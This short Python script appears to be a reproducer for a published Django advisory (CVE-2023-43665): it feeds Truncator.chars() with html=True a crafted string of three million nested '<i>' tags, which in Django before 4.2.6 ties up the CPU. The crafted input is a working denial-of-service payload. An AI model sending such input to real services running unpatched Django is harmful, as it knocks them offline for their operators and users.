# PYSEC-2023-226 (CVE-2023-43665): Django before 4.2.6, Truncator.chars()/words() with html=True parse the whole
# of a very large input (the 4.2.6 fix caps it), so truncating crafted HTML takes the CPU for a long time.
from django.conf import settings

settings.configure(USE_I18N=False)
from django.utils.text import Truncator  # noqa: E402

Truncator("<p>" + "<i>" * 3000000).chars(10, html=True)
